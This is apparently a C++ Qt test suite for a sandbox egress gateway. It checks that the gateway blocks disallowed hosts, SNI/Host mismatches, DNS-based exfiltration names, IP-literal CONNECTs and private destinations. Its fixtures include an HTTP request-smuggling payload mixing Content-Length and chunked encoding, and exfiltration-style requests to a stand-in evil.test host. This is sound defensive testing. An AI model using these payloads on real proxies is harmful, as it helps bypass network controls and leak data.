// The real airlock-gateway process (docs/gateway.md) in a private network namespace whose
// nftables rule redirects the "guest's" TCP to the gateway exactly like a sandbox table does,
// with local HTTPS/HTTP upstreams under a test CA and a local DNS authority (loopback inside
// the namespace only). docs/redteam-cases.md A1-A6, D3, D4, G1, H1, E6, and the control protocol.
#include "core/gateway/dns/addressrange.h"
#include "core/gateway/dns/dnsldns.h"
#include "core/pki/sandboxca.h"
#include "gatewaytestbed.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QTemporaryDir>
#include <QTest>

#include <openssl/ssl.h>

#include <arpa/inet.h>
#include <csignal>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

using namespace airlock;
using namespace airlock::gateway;
using namespace airlock::test;
using namespace Qt::StringLiterals;

namespace {

const QHostAddress kPkgAddress(u"127.0.0.11"_s); // pkg.test and tenant.test (a shared CDN)
const QHostAddress kEvilAddress(u"127.0.0.12"_s);
const QHostAddress kWrongCertAddress(u"127.0.0.13"_s);
const QHostAddress kUnroutedAddress(u"192.0.2.7"_s); // an address the guest picks itself

QJsonObject rule(const QString &host, QJsonArray ports = {443})
{
    return QJsonObject {{u"host"_s, host}, {u"ports"_s, ports}};
}

QJsonObject basePolicy()
{
    return QJsonObject {
        {u"version"_s, 1},
        {u"rules"_s,
         QJsonArray {rule(u"pkg.test"_s, {443, 80}), rule(u"wrongcert.test"_s, {443, 80}),
                     rule(u"private.test"_s)}}};
}

// An A query to the gateway's DNS on GW:53; the answered address, or null.
QHostAddress resolveThroughGateway(const QString &name)
{
    using namespace ldnsutil;
    Pkt query(ldns_pkt_query_new(ldns_dname_new_frm_str(name.toLatin1().constData()),
                                 LDNS_RR_TYPE_A, LDNS_RR_CLASS_IN, LDNS_RD));
    ldns_pkt_set_id(query.get(), 0x4242);
    const QByteArray wire = toWire(query.get());
    const int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    sockaddr_in gw {};
    gw.sin_family = AF_INET;
    gw.sin_port = htons(53);
    gw.sin_addr.s_addr = htonl(QHostAddress(kLinkGateway).toIPv4Address());
    ::sendto(fd, wire.constData(), size_t(wire.size()), 0, reinterpret_cast<sockaddr *>(&gw),
             sizeof gw);
    pollfd p {fd, POLLIN, 0};
    QHostAddress result;
    char buffer[4096];
    if (::poll(&p, 1, 5000) > 0) {
        const ssize_t n = ::recv(fd, buffer, sizeof buffer, 0);
        const Pkt answer = parse(QByteArrayView(buffer, qMax<ssize_t>(0, n)));
        if (answer && ldns_pkt_ancount(answer.get()) == 1) {
            const ldns_rr *rr = ldns_rr_list_rr(ldns_pkt_answer(answer.get()), 0);
            result = QHostAddress(toString(ldns_rr_rdf(rr, 0)));
        }
    }
    ::close(fd);
    return result;
}

QByteArray get(const QString &path, const QString &host, const QByteArray &extra = {})
{
    return "GET " + path.toLatin1() + " HTTP/1.1\r\nHost: " + host.toLatin1() + "\r\n" + extra
        + "\r\n";
}

bool isEgress(const QJsonObject &m, const QString &reason, const QString &layer)
{
    const QJsonObject event = m.value(u"event"_s).toObject();
    return m.value(u"type"_s) == u"egress"_s && event.value(u"reason"_s) == reason
        && (layer.isEmpty() || event.value(u"layer"_s) == layer);
}

} // namespace

class TestGatewayProcess : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void allowedGetThroughTls();
    void sniHostMismatch();
    void noSni();
    void notTls();
    void keepAliveSecondRequestRechecked();
    void deniedHostNeverReachesUpstream();
    void guestChosenAddressIgnored();
    void syntheticAddressOfAnotherName();
    void plainHttpPort80();
    void explicitProxy();
    void redirectPassedNotFollowed();
    void largeBodiesBothWays();
    void ambiguousFramingRefused();
    void upstreamWrongCertificate();
    void privateDestination();
    void policyUpdate();
    void limitsAndUnredirectedConnections();
    void inheritedListeningSockets();
    void garbageOnControlIsFatal();
    void badConfigIsFatal();
    void eofOnControlExitsCleanly();

private:
    QJsonObject waitEvent(const QString &reason, const QString &layer = {});
    QByteArray tlsExchange(const QHostAddress &address, const QString &sni,
                           const QByteArray &request, int *alert = nullptr);

    QTemporaryDir m_dir;
    std::optional<airlock::pki::SandboxCa> m_sandboxCa;
    std::optional<airlock::pki::SandboxCa> m_upstreamCa;
    TestUpstream m_pkg;
    TestUpstream m_pkgPlain;
    TestUpstream m_evil;
    TestUpstream m_evilPlain;
    TestUpstream m_wrongCert;
    TestDnsServer m_dns;
    GatewayProcess m_gateway;
    QJsonObject m_config;
};

void TestGatewayProcess::initTestCase()
{
    QVERIFY(m_dir.isValid());
    auto sandboxCa = airlock::pki::SandboxCa::generate(u"tst-gateway"_s);
    auto upstreamCa = airlock::pki::SandboxCa::generate(u"upstream-test"_s);
    QVERIFY(sandboxCa && upstreamCa);
    m_sandboxCa.emplace(std::move(*sandboxCa));
    m_upstreamCa.emplace(std::move(*upstreamCa));
    QVERIFY(m_sandboxCa->save(m_dir.filePath(u"sandbox.crt"_s), m_dir.filePath(u"sandbox.key"_s)));
    QVERIFY(
        m_upstreamCa->save(m_dir.filePath(u"upstream.crt"_s), m_dir.filePath(u"upstream.key"_s)));

    QVERIFY(m_pkg.start(
        {kPkgAddress, 443, true, &*m_upstreamCa, {u"pkg.test"_s, u"tenant.test"_s}, {}}));
    QVERIFY(m_pkgPlain.start({kPkgAddress, 80, false, nullptr, {}, {}}));
    QVERIFY(m_evil.start({kEvilAddress, 443, true, &*m_upstreamCa, {u"evil.test"_s}, {}}));
    QVERIFY(m_evilPlain.start({kEvilAddress, 80, false, nullptr, {}, {}}));
    QVERIFY(m_wrongCert.start({kWrongCertAddress, 443, true, &*m_upstreamCa, {}, u"other.test"_s}));
    QVERIFY(m_dns.start(QHostAddress(kDnsUpstream), 53,
                        {{u"pkg.test"_s, kPkgAddress.toString()},
                         {u"tenant.test"_s, kPkgAddress.toString()},
                         {u"evil.test"_s, kEvilAddress.toString()},
                         {u"wrongcert.test"_s, kWrongCertAddress.toString()},
                         {u"private.test"_s, u"10.1.2.3"_s}}));

    m_config = gatewayTestConfig(m_dir.filePath(u"sandbox.crt"_s), m_dir.filePath(u"sandbox.key"_s),
                                 m_dir.filePath(u"upstream.crt"_s), basePolicy());
    QString error;
    QVERIFY2(m_gateway.startAndWaitReady(m_config, &error), qPrintable(error));
    const QJsonObject ready = m_gateway.received().constLast();
    QCOMPARE(ready.value(u"tcpPort"_s).toInt(), int(kRedirectPort));
    QCOMPARE(ready.value(u"dnsPort"_s).toInt(), 53);
}

void TestGatewayProcess::cleanupTestCase()
{
    m_gateway.closeControl();
    m_pkg.stop();
    m_pkgPlain.stop();
    m_evil.stop();
    m_evilPlain.stop();
    m_wrongCert.stop();
    m_dns.stop();
}

QJsonObject TestGatewayProcess::waitEvent(const QString &reason, const QString &layer)
{
    const auto message =
        m_gateway.waitFor([&](const QJsonObject &m) { return isEgress(m, reason, layer); }, 5000);
    return message ? message->value(u"event"_s).toObject() : QJsonObject();
}

QByteArray TestGatewayProcess::tlsExchange(const QHostAddress &address, const QString &sni,
                                           const QByteArray &request, int *alert)
{
    GuestConnection guest;
    if (!guest.connectTcp(address, 443))
        return "connect failed";
    if (!guest.startTls(sni, m_sandboxCa->certificatePem())) {
        if (alert)
            *alert = guest.alert();
        return {};
    }
    guest.write(request);
    return guest.readResponse();
}

void TestGatewayProcess::allowedGetThroughTls()
{
    const QHostAddress synthetic = resolveThroughGateway(u"pkg.test"_s);
    QVERIFY(AddressRange::parse(u"100.112.0.0/16")->contains(synthetic));
    QCOMPARE(waitEvent(u"allowed"_s, u"dns"_s).value(u"dnsType"_s).toString(), u"A"_s);

    const int before = m_pkg.requests().size();
    const QByteArray response =
        tlsExchange(synthetic, u"pkg.test"_s, get(u"/simple/?token=s3cr3t"_s, u"pkg.test"_s));
    QCOMPARE(responseStatus(response), 200);
    QCOMPARE(responseBody(response), QByteArray("hello pkg.test /simple/?token=s3cr3t\n"));
    const QByteArrayList requests = m_pkg.requests();
    QCOMPARE(requests.size(), before + 1);
    QVERIFY(requests.last().startsWith("GET /simple/?token=s3cr3t HTTP/1.1\r\nHost: pkg.test\r\n"));
    QCOMPARE(m_pkg.snis().constLast(), u"pkg.test"_s);

    const QJsonObject event = waitEvent(u"allowed"_s, u"http"_s);
    QCOMPARE(event.value(u"verdict"_s).toString(), u"allowed"_s);
    QCOMPARE(event.value(u"sandbox"_s).toString(), u"test"_s);
    QCOMPARE(event.value(u"sni"_s).toString(), u"pkg.test"_s);
    QCOMPARE(event.value(u"host"_s).toString(), u"pkg.test"_s);
    QCOMPARE(event.value(u"path"_s).toString(), u"/simple/"_s); // query redacted
    QCOMPARE(event.value(u"method"_s).toString(), u"GET"_s);
    QCOMPARE(event.value(u"status"_s).toInt(), 200);
    QCOMPARE(event.value(u"port"_s).toInt(), 443);
    QCOMPARE(event.value(u"destination"_s).toString(), synthetic.toString());
    QCOMPARE(event.value(u"bytesDown"_s).toInteger(), qint64(response.size()));
    QVERIFY(event.value(u"bytesUp"_s).toInteger() > 0);
    QVERIFY(!QJsonDocument(event).toJson().contains("s3cr3t"));
}

void TestGatewayProcess::sniHostMismatch()
{
    const int before = m_pkg.requests().size();
    const QByteArray response =
        tlsExchange(kUnroutedAddress, u"pkg.test"_s, get(u"/"_s, u"tenant.test"_s));
    QCOMPARE(responseStatus(response), 421);
    QVERIFY(responseBody(response).contains("sni_host_mismatch"));
    const QJsonObject event = waitEvent(u"sni_host_mismatch"_s);
    QCOMPARE(event.value(u"verdict"_s).toString(), u"denied"_s);
    QCOMPARE(event.value(u"status"_s).toInt(), 421);
    QCOMPARE(m_pkg.requests().size(), before);
}

void TestGatewayProcess::noSni()
{
    const int before = m_pkg.connections();
    int alert = -1;
    QVERIFY(tlsExchange(kUnroutedAddress, QString(), get(u"/"_s, u"pkg.test"_s), &alert).isEmpty());
    QCOMPARE(alert, int(SSL_AD_UNRECOGNIZED_NAME));
    QCOMPARE(waitEvent(u"no_sni"_s).value(u"layer"_s).toString(), u"tls"_s);
    QCOMPARE(m_pkg.connections(), before);
}

void TestGatewayProcess::notTls()
{
    GuestConnection guest;
    QVERIFY(guest.connectTcp(kUnroutedAddress, 443));
    QVERIFY(guest.write("SSH-2.0-x\r\n"));
    QByteArray bytes;
    QVERIFY(guest.readUntilClosed(&bytes));
    QVERIFY(bytes.isEmpty());
    QCOMPARE(waitEvent(u"not_tls"_s).value(u"layer"_s).toString(), u"tcp"_s);
}

void TestGatewayProcess::keepAliveSecondRequestRechecked()
{
    const int before = m_pkg.requests().size();
    GuestConnection guest;
    QVERIFY(guest.connectTcp(kUnroutedAddress, 443));
    QVERIFY(guest.startTls(u"pkg.test"_s, m_sandboxCa->certificatePem()));
    QVERIFY(guest.write(get(u"/a"_s, u"pkg.test"_s)));
    QCOMPARE(responseStatus(guest.readResponse()), 200);
    QVERIFY(guest.write(get(u"/b"_s, u"tenant.test"_s)));
    const QByteArray second = guest.readResponse();
    QCOMPARE(responseStatus(second), 421);
    QByteArray rest;
    QVERIFY(guest.readUntilClosed(&rest));
    const QByteArrayList requests = m_pkg.requests().mid(before);
    QCOMPARE(requests.size(), 1);
    QVERIFY(requests.first().startsWith("GET /a "));
    QVERIFY(!waitEvent(u"sni_host_mismatch"_s).isEmpty());
}

void TestGatewayProcess::deniedHostNeverReachesUpstream()
{
    int alert = -1;
    QVERIFY(
        tlsExchange(kEvilAddress, u"evil.test"_s, get(u"/"_s, u"evil.test"_s), &alert).isEmpty());
    QCOMPARE(alert, int(SSL_AD_ACCESS_DENIED));
    const QJsonObject tlsEvent = waitEvent(u"host_not_allowed"_s);
    QCOMPARE(tlsEvent.value(u"layer"_s).toString(), u"tls"_s);
    QCOMPARE(tlsEvent.value(u"sni"_s).toString(), u"evil.test"_s);
    QCOMPARE(tlsEvent.value(u"name"_s).toString(), u"evil.test"_s);
    QCOMPARE(tlsEvent.value(u"destination"_s).toString(), kEvilAddress.toString());

    // D4: plain HTTP to a denied host, transparent and through the explicit proxy.
    GuestConnection plain;
    QVERIFY(plain.connectTcp(kEvilAddress, 80));
    QVERIFY(plain.write(get(u"/log?d=x"_s, u"evil.test"_s)));
    QCOMPARE(responseStatus(plain.readResponse()), 403);
    const QJsonObject event = waitEvent(u"host_not_allowed"_s);
    QCOMPARE(event.value(u"layer"_s).toString(), u"http"_s);
    QCOMPARE(event.value(u"host"_s).toString(), u"evil.test"_s);
    QCOMPARE(event.value(u"name"_s).toString(), u"evil.test"_s);
    QCOMPARE(event.value(u"method"_s).toString(), u"GET"_s);
    QCOMPARE(event.value(u"path"_s).toString(), u"/log"_s); // "?d=x" redacted
    QCOMPARE(event.value(u"status"_s).toInt(), 403);
    GuestConnection proxy;
    QVERIFY(proxy.connectTcp(QHostAddress(kLinkGateway), 3128));
    QVERIFY(proxy.write(get(u"http://evil.test/log?d=x"_s, u"evil.test"_s)));
    QCOMPARE(responseStatus(proxy.readResponse()), 403);

    // E1: the DNS name is refused and never forwarded.
    QVERIFY(resolveThroughGateway(u"data.x.evil.test"_s).isNull());
    QVERIFY(!m_dns.queries().contains(u"data.x.evil.test"_s));

    QCOMPARE(m_evil.connections(), 0);
    QCOMPARE(m_evilPlain.connections(), 0);
}

void TestGatewayProcess::guestChosenAddressIgnored()
{
    // A2: the guest dials evil.test's address with SNI pkg.test; the gateway dials its own
    // resolution of pkg.test.
    const QByteArray response =
        tlsExchange(kEvilAddress, u"pkg.test"_s, get(u"/a2"_s, u"pkg.test"_s));
    QCOMPARE(responseStatus(response), 200);
    QCOMPARE(responseBody(response), QByteArray("hello pkg.test /a2\n"));
    GuestConnection plain;
    QVERIFY(plain.connectTcp(kEvilAddress, 80));
    QVERIFY(plain.write(get(u"/a2"_s, u"pkg.test"_s)));
    QCOMPARE(responseBody(plain.readResponse()), QByteArray("hello pkg.test /a2\n"));
    QCOMPARE(m_evil.connections(), 0);
    QCOMPARE(m_evilPlain.connections(), 0);
}

void TestGatewayProcess::syntheticAddressOfAnotherName()
{
    // A3: the synthetic address of pkg.test used for another name.
    const QHostAddress synthetic = resolveThroughGateway(u"pkg.test"_s);
    QVERIFY(!synthetic.isNull());
    int alert = -1;
    QVERIFY(tlsExchange(synthetic, u"wrongcert.test"_s, get(u"/"_s, u"wrongcert.test"_s), &alert)
                .isEmpty());
    QCOMPARE(alert, int(SSL_AD_ACCESS_DENIED));
    QCOMPARE(waitEvent(u"destination_mismatch"_s).value(u"layer"_s).toString(), u"tls"_s);

    GuestConnection plain;
    QVERIFY(plain.connectTcp(synthetic, 80));
    QVERIFY(plain.write(get(u"/"_s, u"wrongcert.test"_s)));
    QCOMPARE(responseStatus(plain.readResponse()), 421);
    QCOMPARE(waitEvent(u"destination_mismatch"_s).value(u"layer"_s).toString(), u"http"_s);
}

void TestGatewayProcess::plainHttpPort80()
{
    const QHostAddress synthetic = resolveThroughGateway(u"pkg.test"_s);
    const int before = m_pkgPlain.requests().size();
    GuestConnection guest;
    QVERIFY(guest.connectTcp(synthetic, 80));
    QVERIFY(guest.write(get(u"/plain"_s, u"pkg.test"_s)));
    const QByteArray response = guest.readResponse();
    QCOMPARE(responseStatus(response), 200);
    QCOMPARE(responseBody(response), QByteArray("hello pkg.test /plain\n"));
    QCOMPARE(m_pkgPlain.requests().size(), before + 1);
    const QJsonObject event = waitEvent(u"allowed"_s, u"http"_s);
    QCOMPARE(event.value(u"port"_s).toInt(), 80);
    QCOMPARE(event.value(u"path"_s).toString(), u"/plain"_s);

    // Pipelined requests come back in order; a later request for another host on the same
    // plain connection is refused (one name per connection), and nothing of it goes upstream.
    GuestConnection again;
    QVERIFY(again.connectTcp(kUnroutedAddress, 80));
    QVERIFY(again.write(get(u"/one"_s, u"pkg.test"_s) + get(u"/two"_s, u"pkg.test"_s)));
    QCOMPARE(responseBody(again.readResponse()), QByteArray("hello pkg.test /one\n"));
    QCOMPARE(responseBody(again.readResponse()), QByteArray("hello pkg.test /two\n"));
    QVERIFY(again.write(get(u"/three"_s, u"wrongcert.test"_s)));
    QCOMPARE(responseStatus(again.readResponse()), 421);
    QVERIFY(again.readUntilClosed(nullptr));
    QVERIFY(!waitEvent(u"host_mismatch"_s).isEmpty());
    QCOMPARE(m_pkgPlain.requests().size(), before + 3);
}

void TestGatewayProcess::explicitProxy()
{
    // CONNECT, then TLS for the same name.
    {
        GuestConnection guest;
        QVERIFY(guest.connectTcp(QHostAddress(kLinkGateway), 3128));
        QVERIFY(guest.write("CONNECT pkg.test:443 HTTP/1.1\r\nHost: pkg.test:443\r\n\r\n"));
        QCOMPARE(responseStatus(guest.readResponse()), 200);
        QVERIFY(guest.startTls(u"pkg.test"_s, m_sandboxCa->certificatePem()));
        QVERIFY(guest.write(get(u"/tunnel"_s, u"pkg.test"_s)));
        QCOMPARE(responseBody(guest.readResponse()), QByteArray("hello pkg.test /tunnel\n"));
    }
    // A5: the SNI inside the tunnel names another host.
    {
        GuestConnection guest;
        QVERIFY(guest.connectTcp(QHostAddress(kLinkGateway), 3128));
        QVERIFY(guest.write("CONNECT pkg.test:443 HTTP/1.1\r\nHost: pkg.test:443\r\n\r\n"));
        QCOMPARE(responseStatus(guest.readResponse()), 200);
        QVERIFY(!guest.startTls(u"evil.test"_s, m_sandboxCa->certificatePem()));
        QCOMPARE(guest.alert(), int(SSL_AD_ACCESS_DENIED));
        QVERIFY(!waitEvent(u"sni_connect_mismatch"_s).isEmpty());
    }
    // D1: CONNECT to an IP literal.
    {
        GuestConnection guest;
        QVERIFY(guest.connectTcp(QHostAddress(kLinkGateway), 3128));
        QVERIFY(guest.write("CONNECT 192.0.2.7:443 HTTP/1.1\r\nHost: 192.0.2.7:443\r\n\r\n"));
        QCOMPARE(responseStatus(guest.readResponse()), 403);
        QVERIFY(!waitEvent(u"ip_literal"_s).isEmpty());
    }
    // A plain proxy request in absolute form.
    {
        GuestConnection guest;
        QVERIFY(guest.connectTcp(QHostAddress(kLinkGateway), 3128));
        QVERIFY(guest.write(get(u"http://pkg.test/proxied"_s, u"pkg.test"_s)));
        QCOMPARE(responseBody(guest.readResponse()), QByteArray("hello pkg.test /proxied\n"));
    }
    QCOMPARE(m_evil.connections(), 0);
}

void TestGatewayProcess::redirectPassedNotFollowed()
{
    const QByteArray response =
        tlsExchange(kUnroutedAddress, u"pkg.test"_s, get(u"/redirect"_s, u"pkg.test"_s));
    QCOMPARE(responseStatus(response), 302);
    QVERIFY(response.contains("Location: https://evil.test/c\r\n"));
    QCOMPARE(m_evil.connections(), 0);
}

void TestGatewayProcess::largeBodiesBothWays()
{
    // Streaming with backpressure: a 3 MiB upload (Content-Length) and a 1 MiB download on one
    // keep-alive connection, both intact.
    GuestConnection guest;
    QVERIFY(guest.connectTcp(kUnroutedAddress, 443));
    QVERIFY(guest.startTls(u"pkg.test"_s, m_sandboxCa->certificatePem()));
    const QByteArray body(3 * 1024 * 1024, 'u');
    QVERIFY(guest.write("POST /upload HTTP/1.1\r\nHost: pkg.test\r\nContent-Length: "
                        + QByteArray::number(body.size()) + "\r\n\r\n" + body));
    QCOMPARE(responseBody(guest.readResponse(20000)), QByteArray("hello pkg.test /upload\n"));
    QVERIFY(guest.write(get(u"/big"_s, u"pkg.test"_s)));
    const QByteArray big = guest.readResponse(20000);
    QCOMPARE(responseStatus(big), 200);
    QCOMPARE(responseBody(big), QByteArray(1024 * 1024, 'x'));
    const auto upload = m_gateway.waitFor(
        [](const QJsonObject &m) {
            return isEgress(m, u"allowed"_s, u"http"_s)
                && m.value(u"event"_s).toObject().value(u"path"_s) == u"/upload"_s;
        },
        5000);
    QVERIFY(upload);
    QVERIFY(upload->value(u"event"_s).toObject().value(u"bytesUp"_s).toInteger() > body.size());
}

void TestGatewayProcess::ambiguousFramingRefused()
{
    const int before = m_pkg.requests().size();
    const QByteArray smuggle = "POST / HTTP/1.1\r\nHost: pkg.test\r\nContent-Length: 4\r\n"
                               "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                               "GET / HTTP/1.1\r\nHost: tenant.test\r\n\r\n";
    const QByteArray response = tlsExchange(kUnroutedAddress, u"pkg.test"_s, smuggle);
    QCOMPARE(responseStatus(response), 400);
    QVERIFY(!waitEvent(u"conflicting_framing"_s).isEmpty());
    QCOMPARE(m_pkg.requests().size(), before);
}

void TestGatewayProcess::upstreamWrongCertificate()
{
    const QByteArray response =
        tlsExchange(kUnroutedAddress, u"wrongcert.test"_s, get(u"/"_s, u"wrongcert.test"_s));
    QCOMPARE(responseStatus(response), 502);
    const QJsonObject event = waitEvent(u"upstream_tls_failed"_s);
    QCOMPARE(event.value(u"status"_s).toInt(), 502);
    QVERIFY2(event.value(u"detail"_s).toString().contains(u"hostname mismatch"_s),
             qPrintable(event.value(u"detail"_s).toString()));
    QCOMPARE(m_wrongCert.requests().size(), 0);
}

void TestGatewayProcess::privateDestination()
{
    // E6: the authority answers a refused address; nothing is dialed.
    const QByteArray response =
        tlsExchange(kUnroutedAddress, u"private.test"_s, get(u"/"_s, u"private.test"_s));
    QCOMPARE(responseStatus(response), 403);
    QVERIFY(!waitEvent(u"private_destination"_s).isEmpty());
    QVERIFY(resolveThroughGateway(u"private.test"_s).isNull());
}

void TestGatewayProcess::policyUpdate()
{
    int alert = -1;
    QVERIFY(tlsExchange(kUnroutedAddress, u"tenant.test"_s, get(u"/"_s, u"tenant.test"_s), &alert)
                .isEmpty());
    QCOMPARE(alert, int(SSL_AD_ACCESS_DENIED));

    QJsonObject policy = basePolicy();
    QJsonArray rules = policy.value(u"rules"_s).toArray();
    rules.append(rule(u"tenant.test"_s));
    policy.insert(u"rules"_s, rules);
    m_gateway.send({{u"type"_s, u"policy"_s}, {u"policy"_s, policy}});
    const auto applied = m_gateway.waitFor(
        [](const QJsonObject &m) { return m.value(u"type"_s) == u"applied"_s; }, 5000);
    QVERIFY(applied);
    QCOMPARE(applied->value(u"rules"_s).toInt(), 4);
    const QByteArray response =
        tlsExchange(kUnroutedAddress, u"tenant.test"_s, get(u"/t"_s, u"tenant.test"_s));
    QCOMPARE(responseBody(response), QByteArray("hello tenant.test /t\n"));

    // An invalid policy is refused and the previous one stays.
    QJsonObject bad {{u"version"_s, 1}, {u"rules"_s, QJsonArray {rule(u"*.test"_s)}}};
    m_gateway.send({{u"type"_s, u"policy"_s}, {u"policy"_s, bad}});
    const auto error = m_gateway.waitFor(
        [](const QJsonObject &m) { return m.value(u"type"_s) == u"error"_s; }, 5000);
    QVERIFY(error);
    QVERIFY2(error->value(u"error"_s).toString().contains(u"rule 0"_s),
             qPrintable(error->value(u"error"_s).toString()));
    QCOMPARE(responseStatus(
                 tlsExchange(kUnroutedAddress, u"tenant.test"_s, get(u"/t"_s, u"tenant.test"_s))),
             200);

    m_gateway.send({{u"type"_s, u"policy"_s}, {u"policy"_s, basePolicy()}});
    QVERIFY(m_gateway.waitFor(
        [](const QJsonObject &m) { return m.value(u"type"_s) == u"applied"_s; }, 5000));
    QVERIFY(
        tlsExchange(kUnroutedAddress, u"tenant.test"_s, get(u"/"_s, u"tenant.test"_s)).isEmpty());
}

void TestGatewayProcess::limitsAndUnredirectedConnections()
{
    // A second gateway on its own port, reached without the nat redirect: the listener's
    // address stands in for the original destination (docs/gateway.md).
    QJsonObject config = m_config;
    config.insert(u"listen"_s,
                  QJsonObject {{u"tcp"_s, u"127.0.0.1:15002"_s}, {u"dns"_s, u"127.0.0.1:0"_s}});
    config.insert(u"limits"_s, QJsonObject {{u"maxConnections"_s, 1}, {u"idleTimeoutMs"_s, 300}});
    GatewayProcess gateway;
    QString error;
    QVERIFY2(gateway.startAndWaitReady(config, &error), qPrintable(error));
    const QHostAddress local(u"127.0.0.1"_s);

    {
        GuestConnection idle;
        QVERIFY(idle.connectTcp(local, 15002, false));
        QTest::qWait(50); // accepted before the next one
        GuestConnection refused;
        QVERIFY(refused.connectTcp(local, 15002, false));
        QVERIFY(refused.readUntilClosed(nullptr, 2000));
        QVERIFY(gateway.waitFor(
            [](const QJsonObject &m) { return isEgress(m, u"too_many_connections"_s, u"tcp"_s); },
            5000));
        const auto timeout = gateway.waitFor(
            [](const QJsonObject &m) { return isEgress(m, u"idle_timeout"_s, u"tcp"_s); }, 5000);
        QVERIFY(timeout);
        const QJsonObject event = timeout->value(u"event"_s).toObject();
        QCOMPARE(event.value(u"destination"_s).toString(), u"127.0.0.1"_s);
        QCOMPARE(event.value(u"port"_s).toInt(), 15002);
        QVERIFY(idle.readUntilClosed(nullptr, 2000));
    }

    // The port is the listener's: pkg.test is allowed on 443 and 80 only.
    // (Until the gateway has seen the idle guest's FIN, the one slot may still be taken.)
    int alert = -1;
    for (int attempt = 0; attempt < 50 && alert == -1; ++attempt) {
        GuestConnection tls;
        QVERIFY(tls.connectTcp(local, 15002, false));
        QVERIFY(!tls.startTls(u"pkg.test"_s, m_sandboxCa->certificatePem()));
        alert = tls.alert();
        if (alert == -1)
            QTest::qWait(100);
    }
    QCOMPARE(alert, int(SSL_AD_ACCESS_DENIED));
    QVERIFY(gateway.waitFor(
        [](const QJsonObject &m) { return isEgress(m, u"port_not_allowed"_s, u"tls"_s); }, 5000));
    gateway.closeControl();
    QCOMPARE(gateway.waitForExit(5000), 0);
}

void TestGatewayProcess::inheritedListeningSockets()
{
    // As airlockd starts it: sockets bound by the parent, named by fd number.
    const auto bound = [](int type, quint16 port) {
        const int fd = ::socket(AF_INET, type | SOCK_CLOEXEC, 0);
        sockaddr_in address {};
        address.sin_family = AF_INET;
        address.sin_port = htons(port);
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        const int one = 1;
        ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        if (::bind(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) != 0) {
            ::close(fd);
            return -1;
        }
        return fd;
    };
    const int tcp = bound(SOCK_STREAM, 15003);
    const int dnsUdp = bound(SOCK_DGRAM, 15053);
    const int dnsTcp = bound(SOCK_STREAM, 15053);
    QVERIFY(tcp >= 0 && dnsUdp >= 0 && dnsTcp >= 0);
    QCOMPARE(::listen(tcp, 16), 0); // the DNS TCP socket is left for the gateway to listen on
    QJsonObject config = m_config;
    config.insert(
        u"listen"_s,
        QJsonObject {{u"tcpFd"_s, tcp}, {u"dnsUdpFd"_s, dnsUdp}, {u"dnsTcpFd"_s, dnsTcp}});
    GatewayProcess gateway;
    QString error;
    QVERIFY2(gateway.spawn(&error, {tcp, dnsUdp, dnsTcp}), qPrintable(error));
    ::close(tcp);
    ::close(dnsUdp);
    ::close(dnsTcp);
    gateway.send(config);
    const auto ready = gateway.waitFor(
        [](const QJsonObject &m) {
            return m.value(u"type"_s) == u"ready"_s || m.value(u"type"_s) == u"fatal"_s;
        },
        5000);
    QVERIFY(ready);
    QVERIFY2(ready->value(u"type"_s) == u"ready"_s,
             qPrintable(ready->value(u"error"_s).toString()));
    QCOMPARE(ready->value(u"tcpPort"_s).toInt(), 15003);
    QCOMPARE(ready->value(u"dnsPort"_s).toInt(), 15053);

    GuestConnection tls;
    QVERIFY(tls.connectTcp(QHostAddress(u"127.0.0.1"_s), 15003, false));
    QVERIFY(!tls.startTls(u"pkg.test"_s, m_sandboxCa->certificatePem()));
    QCOMPARE(tls.alert(), int(SSL_AD_ACCESS_DENIED)); // port 15003 is not allowed
    QVERIFY(gateway.waitFor(
        [](const QJsonObject &m) { return isEgress(m, u"port_not_allowed"_s, u"tls"_s); }, 5000));
    GuestConnection dns;
    QVERIFY(dns.connectTcp(QHostAddress(u"127.0.0.1"_s), 15053, false)); // DNS over TCP listens
    gateway.closeControl();
    QCOMPARE(gateway.waitForExit(5000), 0);
}

void TestGatewayProcess::garbageOnControlIsFatal()
{
    GatewayProcess gateway;
    QString error;
    QVERIFY2(gateway.spawn(&error), qPrintable(error));
    gateway.sendRaw("this is not json\n");
    const auto fatal = gateway.waitFor(
        [](const QJsonObject &m) { return m.value(u"type"_s) == u"fatal"_s; }, 5000);
    QVERIFY(fatal);
    QVERIFY2(fatal->value(u"error"_s).toString().contains(u"not JSON"_s),
             qPrintable(fatal->value(u"error"_s).toString()));
    QCOMPARE(gateway.waitForExit(5000), 1);
}

void TestGatewayProcess::badConfigIsFatal()
{
    GatewayProcess gateway;
    QString error;
    QVERIFY2(gateway.spawn(&error), qPrintable(error));
    QJsonObject config = m_config;
    QJsonObject link = config.value(u"link"_s).toObject();
    link.insert(u"gateway"_s, u"10.77.0.300"_s);
    config.insert(u"link"_s, link);
    gateway.send(config);
    const auto fatal = gateway.waitFor(
        [](const QJsonObject &m) { return m.value(u"type"_s) == u"fatal"_s; }, 5000);
    QVERIFY(fatal);
    QVERIFY2(fatal->value(u"error"_s).toString().contains(u"link.gateway"_s),
             qPrintable(fatal->value(u"error"_s).toString()));
    QCOMPARE(gateway.waitForExit(5000), 1);
}

void TestGatewayProcess::eofOnControlExitsCleanly()
{
    GatewayProcess gateway;
    QString error;
    QVERIFY2(gateway.spawn(&error), qPrintable(error));
    gateway.closeControl();
    QCOMPARE(gateway.waitForExit(5000), 0);
}

int main(int argc, char *argv[])
{
    // Before any thread exists: the whole test runs in its own network namespace.
    const QString network = enterGatewayTestNetwork();
    QCoreApplication app(argc, argv);
    ::signal(SIGPIPE, SIG_IGN);
    if (!network.isEmpty()) {
        std::fprintf(stderr, "cannot set up the test network: %s\n", qPrintable(network));
        return 1;
    }
    TestGatewayProcess test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_gatewayprocess.moc"
